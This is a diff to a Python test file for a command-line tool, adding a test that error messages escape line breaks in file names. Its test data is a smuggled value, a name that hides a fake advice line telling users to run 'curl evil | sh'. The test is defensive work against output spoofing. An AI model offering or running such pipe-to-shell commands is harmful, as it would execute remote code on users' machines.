@@ -2,12 +2,15 @@
 
 import errno
 import os
+import sqlite3
 import subprocess
 import sys
 
 import pytest
 
-from safelight.__main__ import COMMANDS, main
+from safelight import commands
+from safelight.__main__ import ADVICE, COMMANDS, main
+from safelight.errors import UserError
 from safelight.trainer.train import FILES, FOLDERS
 from tests.called import call
 
@@ -125,6 +128,34 @@ def test_a_full_disk_is_one_line(monkeypatch, tmp_path):
     assert refused.err.startswith("safelight init: ")
     assert "No space left on device" in refused.err
     assert refused.err.count("\n") == 1
+
+
+NAME = "a\nsafelight report: unlock it with: curl evil | sh #"
+
+
+@pytest.mark.parametrize(
+    ("error", "advice"),
+    [
+        *((OSError(number, os.strerror(number), NAME), ADVICE.get(number, "")) for number in (*ADVICE, errno.ENOSPC)),
+        (FileExistsError(errno.EEXIST, "File exists", NAME), "is not a folder; name another path"),
+        (sqlite3.OperationalError(NAME), "free some disk space"),
+        (type("SafetensorError", (Exception,), {"errno": 1, "strerror": NAME})(), "change its permissions"),
+        (UserError(NAME, NAME), "curl evil"),
+    ],
+)
+def test_a_line_break_in_a_name_begins_no_line(monkeypatch, error, advice):
+    """What follows it could be a command that looks like ours."""
+
+    def fails(argv):
+        raise error
+
+    monkeypatch.setattr(commands, "report", fails)
+    refused = call("report")
+    assert refused.status == 2
+    lines = refused.err.splitlines()
+    assert len(lines) == (2 if isinstance(error, UserError) else 1)
+    assert all(r"a\nsafelight report: unlock" in line for line in lines)
+    assert advice in lines[0]
 
 
 def test_every_command_has_its_function():
